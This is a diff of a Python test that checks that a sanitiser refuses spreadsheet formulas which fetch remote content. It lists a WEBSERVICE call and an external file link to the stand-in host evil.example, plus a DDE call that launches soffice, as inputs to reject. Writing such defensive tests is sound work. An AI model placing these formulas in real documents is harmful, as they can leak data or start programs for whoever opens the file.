@@ -110,7 +110,7 @@ def test_what_runs_is_refused(inside: str) -> None:
     [
         'of:=WEBSERVICE("https://evil.example/")',
         'of:=DDE("soffice";"a";"b")',
-        "of:='file:///home/a.ods'#$S.A1",
+        "of:='file://evil.example/a.ods'#$S.A1",
     ],
 )
 def test_formulas_that_fetch_are_refused(formula: str) -> None:
